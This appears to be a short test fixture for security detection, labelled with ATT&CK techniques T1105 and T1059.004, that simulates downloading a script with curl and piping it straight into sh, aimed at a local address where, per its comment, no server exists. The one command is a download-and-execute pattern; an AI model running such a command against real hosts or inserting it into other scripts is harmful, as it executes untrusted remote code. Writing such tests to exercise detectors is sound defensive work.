# T1105 + T1059.004: download piped straight into a shell (the server does not exist; the attempt is what counts)
sh -c 'curl -s --max-time 1 http://127.0.0.1:9/install.sh | sh' || true
